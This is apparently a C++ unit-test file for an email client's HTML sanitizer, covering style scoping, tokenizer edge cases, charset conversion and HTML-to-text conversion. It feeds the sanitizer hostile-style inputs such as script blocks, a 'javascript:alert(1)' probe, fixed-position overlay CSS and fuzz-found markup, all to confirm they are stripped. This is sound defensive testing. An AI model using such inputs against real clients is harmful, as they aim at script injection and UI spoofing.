        "@font-face { font-family: Arial; src: url(cid:font) }\n"
        "@keyframes spin { from { color: red } } @page { margin: 0 } @namespace x url(y);\n"
        ".banner { position: fixed; top: 0; color: gray } .box { position: relative }\n"
        ".esc { position: f\\69xed } .v { position: var(--p) }"
        "</style></head><body bgcolor=\"#ffffff\"><div id=\"footer\"><p>Hello</p></div>"
        "<style>body { margin: 40px } .inline, p { color: teal }</style></body></html>";
    const std::string out = sanitize(page, false, true);

    // The container is the one outermost element, so the host inserts the whole body in it.
    ASSERT_EQ(out.rfind("<div class=\"hx-message\" style=\"background-color:#ffffff\">", 0), 0u) << out;
    ASSERT_EQ(out.substr(out.size() - 6), "</div>");
    Tree tree(out);
    const GumboNode* body = nullptr;
    tree.each([&](const GumboNode* n) {
        if (n->v.element.tag == GUMBO_TAG_BODY)
            body = n;
    });
    ASSERT_TRUE(body);
    ASSERT_EQ(body->v.element.children.length, 1u) << out;

    std::vector<std::string> selectors, others;
    int sheets = 0;
    tree.each([&](const GumboNode* n) {
        if (tag(n) != "style")
            return;
        ++sheets;
        EXPECT_EQ(n->parent, body->v.element.children.data[0]) << "style sheets sit inside the container";
        selectorsOf(styleText(n), selectors, others);
    });
    EXPECT_EQ(sheets, 2);
    for (const std::string& selector : selectors)
        EXPECT_TRUE(insideContainer(selector)) << "'" << selector << "' in " << out;
    EXPECT_TRUE(others.empty()) << others.front();

    const std::set<std::string> all(selectors.begin(), selectors.end());
    for (const char* expected :
         {".hx-message", ".hx-message *", ".hx-message #footer", ".hx-message div p", ".hx-message h1",
          ".hx-message .title", ".hx-message > table td", ".hx-message .x", ".hx-message a[title=\"x,y\"]",
          ".hx-message p:is(.a, .b)", ".hx-message .after-comment", ".hx-message .col", ".hx-message .inline",
          ".hx-message p", ".hx-message .banner", ".hx-message .box"})
        EXPECT_EQ(all.count(expected), 1u) << expected << " in " << out;
    for (const char* gone : {"pink", "fixed", "f\\69xed", "var(--p)", "@import", "other.css", "font-face",
                             "keyframes", "@page", "@namespace", "color: red } */"})
        EXPECT_EQ(out.find(gone), std::string::npos) << gone << " in " << out;
    for (const char* kept : {"top: 0", "color: gray", "position: relative",
                             "@media screen and (max-width: 600px)", "margin: 40px", "font-weight:bold"})
        EXPECT_NE(out.find(kept), std::string::npos) << kept << " in " << out;

    // An inline style cannot pin an element to the window either.
    const std::string inline_ = sanitize("<div style=\"position:fixed;inset:0;color:red\">x</div>");
    EXPECT_TRUE(hasElement(inline_, "div", "style", "inset:0;color:red")) << inline_;
    EXPECT_EQ(inline_.find("fixed"), std::string::npos) << inline_;
    // A full document is a page of its own: its sheets stay as written.
    EXPECT_NE(sanitize(page, true, true).find("body { background: black"), std::string::npos);
}

namespace {

// What a fragment must be whatever went in: empty, or one container holding everything, with
// every style rule scoped to it. Empty when it is; else what is wrong.
std::string containerFault(const std::string& out) {
    if (out.empty())
        return {};
    if (out.rfind("<div class=\"hx-message\"", 0) != 0 || out.substr(out.size() - 6) != "</div>")
        return "not wrapped";
    Tree tree(out);
    const GumboNode* body = nullptr;
    std::vector<std::string> selectors, others;
    tree.each([&](const GumboNode* n) {
        if (n->v.element.tag == GUMBO_TAG_BODY)
            body = n;
        if (tag(n) == "style")
            selectorsOf(styleText(n), selectors, others);
    });
    if (!body || body->v.element.children.length != 1)
        return "something outside the container";
    for (const std::string& selector : selectors)
        if (!insideContainer(selector))
            return "unscoped selector " + selector;
    return others.empty() ? std::string() : "at-rule " + others.front();
}

struct TokenCase {
    const char* html;
    std::string text;                                                        // the visible text
    std::vector<std::tuple<const char*, const char*, std::string>> elements; // tag, attribute, value
    std::vector<const char*> absent;                                         // elements not there
};

// How the tokenizer reads the forms a page can take, as a browser does.
const std::vector<TokenCase> kTokens = {
    {"<p title='a>b' class=x>t</p>", "t", {{"p", "title", "a>b"}, {"p", "class", "x"}}, {}},
    {"<P ALIGN=CENTER>t", "t", {{"p", "align", "CENTER"}}, {}},
    {"<a href=/x?a=1&amp;b=2 title=\"&quot;q&quot;\">l</a>",
     "l",
     {{"a", "href", "/x?a=1&b=2"}, {"a", "title", "\"q\""}},
     {}},
    {"<a href=\"/x?a=1&copy=2\">l</a>&copy 2020 &amp &notanentity; &#65;&#x42;",
     "l\xC2\xA9 2020 & \xC2\xAC"
     "anentity; AB",
     {{"a", "href", "/x?a=1&copy=2"}},
     {}},
    {"&#0;&#x110000;&#128;&#xD800;&#", "\xEF\xBF\xBD\xEF\xBF\xBD\xE2\x82\xAC\xEF\xBF\xBD&#", {}, {}},
    {"<img alt=\"first\" alt=\"second\" src=\"cid:a\">", "", {{"img", "alt", "first"}}, {}},
    {"<image src=\"cid:b\">", "", {{"img", "src", "cid:b"}}, {}},
    {"<!-->one<!--->two<!--x--!>three<!-- <p>no</p> -->four", "onetwothreefour", {}, {"p"}},
    {"<!DOCTYPE html><?php x ?>a</ bogus>b</>c<!bogus>d", "abcd", {}, {}},
    {"a < b > c <3", "a < b > c <3", {}, {}},
    {"<xmp><b>shown</b></xmp><textarea><b>t</b></textarea>x", "<b>shown</b>x", {}, {"b", "textarea"}},
    {"<script>if (a</script>b<title>t</titlex></title>c", "bc", {}, {"script", "title"}},
    {"<plaintext><b>all &amp; text</plaintext>", "<b>all &amp; text</plaintext>", {}, {"b", "plaintext"}},
    {"<p>x<b title=\"cut off", "x", {{"p", nullptr, ""}}, {"b"}},
    {"<object><p>fallback</p><object></object></object>after<svg/><p>kept</p>",
     "afterkept",
     {{"p", nullptr, ""}},
     {"object", "svg"}},
    {"<td>cell</td><tr>row", "cellrow", {}, {"td", "tr"}},
    {"<table><span>moved</span><b>b</b><tr><td>c</td></tr></table>",
     "movedbc",
     {{"td", nullptr, ""}},
     {"span", "b"}},
    {"<table><tr><td>a<table><tr><td>b</table>c</table>", "abc", {{"table", nullptr, ""}}, {}},
    {"<ul><li>a<li>b<div><li>c</ul>", "abc", {{"li", nullptr, ""}}, {}},
    // The same tag again where a browser would move it out of the table: not written there.
    {"<table><tr><td><font size=2>b</font></td></tr><font size=2>a</font></table>",
     "ab", // a browser moves the text out in front of the table
     {{"font", "size", "2"}},
     {}},
    // Runs longer than one scanning step, with the bytes that need care at every offset.
    {"<p title='say \"hi\" &amp; <go>' lang=\"0123456789abcdef0123456789&lt;\">"
     "0123456789abcdef0123456789 &gt; > 0123456789abcdef&amp;0123456789abcdef<b>x</b></p>",
     "0123456789abcdef0123456789 > > 0123456789abcdef&0123456789abcdefx",
     {{"p", "title", "say \"hi\" & <go>"}, {"p", "lang", "0123456789abcdef0123456789<"}},
     {}},
};

} // namespace

TEST(StripScript, TokenizerReadsEveryFormOfMarkup) {
    for (const TokenCase& c : kTokens) {
        const std::string out = sanitize(c.html);
        EXPECT_EQ(Tree(out).text(), c.text) << c.html << "\n" << out;
        for (const auto& [tagName, attrName, value] : c.elements)
            EXPECT_TRUE(hasElement(out, tagName, attrName, value)) << c.html << ": " << tagName << "\n"
                                                                   << out;
        for (const char* gone : c.absent)
            EXPECT_FALSE(hasElement(out, gone)) << c.html << ": " << gone << "\n" << out;
        EXPECT_EQ(containerFault(out), "") << c.html << "\n" << out;
    }
    // Exact pieces of the output: a value belongs to its own tag, and no sheet holds "</".
    const struct {
        std::string_view html;
        const char* present;
        const char* absent;
    } exact[] = {
        {"<p title=\"first\">a</p><p lang>b</p>", "<p lang=\"\">", "lang=\"first\""},
        {"a</br title=x>b", "a<br>b", "title"}, // as a start tag, without its attributes
        {"<style>p{content:\"</a></b>\"}</style>x", "content:\"<\\/a><\\/b>\"", "</a>"},
        {std::string_view("<style>p{font:\"a\0b\"}</style>x", 29),
         "font:\"a\xEF\xBF\xBD"
         "b\"",
         nullptr},
    };
    for (const auto& c : exact) {
        const std::string out = sanitize(std::string(c.html));
        EXPECT_NE(out.find(c.present), std::string::npos) << c.html << "\n" << out;
        if (c.absent) {
            EXPECT_EQ(out.find(c.absent), std::string::npos) << c.html << "\n" << out;
        }
    }
}

// A fragment is one container with scoped sheets, and written over the page it gives what a copy
// would give.
TEST(StripScript, FragmentsAreOneContainerAndWrittenOverThePageMatchACopy) {
    std::vector<std::string> inputs(kVectors.begin(), kVectors.end());
    for (const Survivor& m : kMail)
        inputs.push_back(m.html);
    for (const TokenCase& t : kTokens)
        inputs.push_back(t.html);
    // Markup a browser moves or closes by itself: what the sanitizer wrote must stay inside.
    for (const char* hostile :
         {"<table><div><table></div>after", "<table><tr><div><td>x</div></td></tr></table></div>y",
          "<li><div><li>x</div>", "<p><table><p>x</table></p>", "<a><div><a>x</div></a>",
          "<h1><h2>x</h1></h2></div></div>", "<table><caption><td>x</caption>",
          "<colgroup><col><table><colgroup><tr><td>x", "<style>body + div{x:y} ~ p{a:b}</style>x",
          // Found by fuzzing: an unclosed parenthesis keeps the rest of the sheet in one block.
          "<style>@import url(x.css);BODY{-moz-bin(ding:url(x)}</style><style>b{c:d}</style>x"})
        inputs.push_back(hostile);
    // Results that outgrow what was read: escapes, unquoted values, implied end tags, a long tag.
    std::string grows = "<p>" + std::string(3000, '&') + "<b title=a&b lang=x>" + std::string(500, '<') +
                        "<ul><li>a<li>b<td><div>";
    grows +=
        "<font face=\"" + std::string(200, 'A') + "\">" + "<font face=\"" + std::string(200, 'A') + "\">";
    inputs.push_back(grows);
    inputs.push_back("<plaintext>" + std::string(200, '<') + "&");
    // A page that repeats its tags, long enough to be written over in place.
    std::string repeated =
        "<html><head><title>t</title><style>p{margin:0}</style></head><body bgcolor=white>";
    for (int i = 0; i < 2000; ++i)
        repeated +=
            "<font size=\"2\" face=\"Arial\">Line " + std::to_string(i) + " &amp; <b>more</b></font><br>\n";
    inputs.push_back(repeated);
    for (const std::string& in : inputs) {
        for (const bool full : {false, true}) {
            const std::string copy = sanitize(in, full);
            if (!full) {
                EXPECT_EQ(containerFault(copy), "") << in << "\n" << copy;
            }
            for (const std::size_t before : {std::size_t(0), std::size_t(7), std::size_t(300)}) {
                String page(std::string(before, 'x') + in + "tail");
                const std::string over =
                    HTMLEncode::stripScript(std::move(page), before, in.size(), full, true).str();
                EXPECT_EQ(over, copy) << in << " after " << before << " bytes";
            }
        }
    }
}

TEST(StripScript, LargePagesComeOutAsOneWholeTree) {
    // Far larger than one parse of the sanitizer: the cuts must not show in the result.
    const int rows = 12000;
    std::string page = "<html><head><style>td{color:blue}</style></head><body bgcolor=\"#fafafa\">"
                       "<div style=\"color:red\"><table border=\"1\">";
    std::string expected;
    for (int i = 0; i < rows; ++i) {
        const std::string n = std::to_string(i);
        page += "<tr><td><font face=\"Arial\"><b>cell " + n + "</b> &amp; more</font></td><td>" + n +
                "</td></tr>\n";
        expected += "cell " + n + " & more" + n + "\n";
        if (i == rows / 2) // a comment and a script longer than a parse, with markup inside
            page += "<!-- " + std::string(300000, 'c') + "<p>hidden</p> --><script>" +
                    std::string(300000, 's') + "<b>x</b></script>";
    }
    page += "</table><p>after</p><font color=\"green\">open at the end";
    ASSERT_GT(page.size(), 1500000u);
    const std::string out = sanitize(page, false, true);

    EXPECT_TRUE(activeContent(out).empty());
    EXPECT_TRUE(validUtf8(out));
    EXPECT_EQ(out.find("hidden"), std::string::npos);
    EXPECT_EQ(out.find("sss"), std::string::npos);
    EXPECT_EQ(out.rfind("<div class=\"hx-message\" style=\"background-color:#fafafa\"><style>", 0), 0u);
    Tree tree(out);
    int tables = 0, cells = 0;
    tree.each([&](const GumboNode* n) {
        if (tag(n) == "table") {
            ++tables;
            EXPECT_EQ(tag(n->parent), "div") << "the table stays in its div";
        }
        cells += tag(n) == "td";
    });
    EXPECT_EQ(tables, 1) << "one table, not pieces of it";
    EXPECT_EQ(cells, 2 * rows);
    EXPECT_NE(tree.text().find(expected), std::string::npos) << "every cell, in order";
    EXPECT_NE(tree.text().find("afteropen at the end"), std::string::npos);
}

// ---- charsets ----

TEST(Charset, Windows1252TableAndRoundTrip) {
    EXPECT_EQ(HTMLEncode::string8ToUTF8(String("\x80")).str(), "\xE2\x82\xAC");
    EXPECT_EQ(HTMLEncode::string8ToUTF8(String("\x8A\x9F")).str(), "\xC5\xA0\xC5\xB8");
    EXPECT_EQ(HTMLEncode::string8ToUTF8(String("\x93q\x94")).str(), "\xE2\x80\x9Cq\xE2\x80\x9D");
    EXPECT_EQ(HTMLEncode::string8ToUTF8(String("\xA0\xE9\xFF")).str(), "\xC2\xA0\xC3\xA9\xC3\xBF");
    for (unsigned char b : {0x81, 0x8D, 0x8F, 0x90, 0x9D})
        EXPECT_EQ(HTMLEncode::string8ToUTF8(String(std::string(1, static_cast<char>(b)))).str(),
                  "\xEF\xBF\xBD");

    std::string all;
    for (int b = 0; b < 256; ++b)
        if (b != 0x81 && b != 0x8D && b != 0x8F && b != 0x90 && b != 0x9D)
            all += static_cast<char>(b);
    String utf8 = HTMLEncode::string8ToUTF8(String(all));
    EXPECT_TRUE(validUtf8(utf8.str()));
    EXPECT_EQ(HTMLEncode::UTF8ToString8(utf8).str(), all);
    EXPECT_EQ(HTMLEncode::string8ToUTF8(String()).str(), "");
}

TEST(Charset, MalformedUtf8IsReplacedByteByByteAndTheRestKept) {
    struct Case {
        std::string in, out;
    };
    const std::vector<Case> cases = {
        {"a\x80"
         "b",
         "a?b"},                  // lone continuation byte
        {"\xE2\x82x", "??x"},     // truncated three-byte sequence
        {"end\xE2\x82", "end??"}, // truncated at the end
        {"\xC0\xAF.", "??."},     // overlong slash
        {"\xE0\x80\xAF", "???"},  // overlong three-byte
        {"\xED\xA0\x80!", "??"
                          "?!"},              // UTF-16 surrogate
        {"\xF4\x90\x80\x80", "????"},         // past U+10FFFF
        {"\x81", "?"},                        // a Windows-1252 hole passed as UTF-8
        {"\xFE\xFF", "??"},                   // never valid
        {"\xE4\xB8\xAD", "?"},                // valid but not in Windows-1252
        {"\xEF\xBF\xBD", "?"},                // the replacement character itself
        {"\xC3\xA9\xE2\x82\xAC", "\xE9\x80"}, // é €
        {std::string("a\0b", 3), std::string("a\0b", 3)},
    };
    for (const Case& c : cases)
        EXPECT_EQ(HTMLEncode::UTF8ToString8(String(c.in)).str(), c.out) << c.in;
}

TEST(Charset, BodiesFollowTheDeclaredCharsetAndComeOutValid) {
    auto conv = [](const std::string& body, const char* cs) {
        return HTMLEncode::convertBodyToUTF(String(body), String(cs)).str();
    };
    EXPECT_EQ(conv("caf\xC3\xA9", "UTF-8"), "caf\xC3\xA9");
    EXPECT_EQ(conv("caf\xE9 \xC3\xA9", "utf-8"), "caf\xC3\xA9 \xC3\xA9"); // stray 8-bit byte in UTF-8
    EXPECT_EQ(conv("caf\xE9", "ISO-8859-1"), "caf\xC3\xA9");
    EXPECT_EQ(conv("\x80", "iso-8859-1"), "\xE2\x82\xAC");
    EXPECT_EQ(conv("\x80\x99", "windows-1252"), "\xE2\x82\xAC\xE2\x84\xA2");
    EXPECT_EQ(conv("\xA4\xBD", "\"ISO-8859-15\""), "\xE2\x82\xAC\xC5\x93");
    EXPECT_EQ(conv("caf\xC3\xA9", "us-ascii"), "caf\xC3\xA9");
    EXPECT_EQ(conv("caf\xE9", "us-ascii"), "caf\xC3\xA9");
    EXPECT_EQ(conv("caf\xE9", "x-unknown"), "caf\xC3\xA9");
    EXPECT_EQ(conv("caf\xC3\xA9", ""), "caf\xC3\xA9");
    EXPECT_EQ(conv("<meta charset=\"iso-8859-15\"><p>\xA4</p>", ""),
              "<meta charset=\"iso-8859-15\"><p>\xE2\x82\xAC</p>");
    EXPECT_EQ(conv("<META http-equiv=Content-Type content=\"text/html; charset=windows-1252\">\xC3\xA9", ""),
              "<META http-equiv=Content-Type content=\"text/html; charset=windows-1252\">\xC3\x83\xC2\xA9");

    std::string bytes;
    for (int i = 0; i < 4096; ++i)
        bytes += static_cast<char>((i * 7919) & 0xFF);
    for (const char* cs : {"", "utf-8", "iso-8859-1", "iso-8859-15", "us-ascii", "bogus"})
        EXPECT_TRUE(validUtf8(conv(bytes, cs))) << cs;
}

TEST(Charset, Escape) {
    EXPECT_EQ(HTMLEncode::escape(String("<a href=\"x\">Tom & Jerry's</a>")).str(),
              "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt;");
    EXPECT_EQ(HTMLEncode::escape(String()).str(), "");
}

// ---- HTML <-> text ----

TEST(HTMLConvert, ToTextKeepsVisibleTextAndStructure) {
    EXPECT_EQ(HTMLConvert::toText(String("<html><head><title>T</title><style>p{}</style></head><body>"
                                         "<p>Hello   <b>World</b></p><p>Second&nbsp;line<br>third</p>"
                                         "<ul><li>one</li><li>two</li></ul><script>x()</script>"
                                         "<table><tr><td>a</td><td>b</td></tr></table>"
                                         "<pre>  keep\n   this</pre>&lt;end&gt;</body></html>"))
                  .str(),
              "Hello World\n\nSecond\xC2\xA0line\nthird\n\n- one\n- two\na\tb\n  keep\n   this\n<end>");
    EXPECT_EQ(HTMLConvert::toText(String()).str(), "");
    std::string odd = HTMLConvert::toText(String("a&#x76BBBBBBBB;b\xFF")).str();
    EXPECT_TRUE(validUtf8(odd)) << odd;
    EXPECT_EQ(odd.front(), 'a');
}

TEST(HTMLConvert, ToHTMLEscapesBreaksAndLinks) {
    EXPECT_EQ(HTMLConvert::toHTML(String("a < b & c\r\nnext\nlast")).str(),
              "a &lt; b &amp; c<br>\nnext<br>\nlast");
    EXPECT_EQ(HTMLConvert::toHTML(String("See http://example.com/a?b=1&c=2. Or www.example.org")).str(),
              "See <a href=\"http://example.com/a?b=1&amp;c=2\">http://example.com/a?b=1&amp;c=2</a>. Or "
              "<a href=\"http://www.example.org\">www.example.org</a>");
    EXPECT_EQ(HTMLConvert::toHTML(String("x  y\tz")).str(), "x &nbsp;y&nbsp;&nbsp;&nbsp;&nbsp;z");
    EXPECT_EQ(HTMLConvert::toHTML(String("javascript:alert(1) http://")).str(),
              "javascript:alert(1) http://");
    // Round trip through both directions keeps the words.
    String text("Line one\nhttps://example.com/x\nLine <three>");
    EXPECT_EQ(HTMLConvert::toText(HTMLConvert::toHTML(text)).str(), text.str());
}
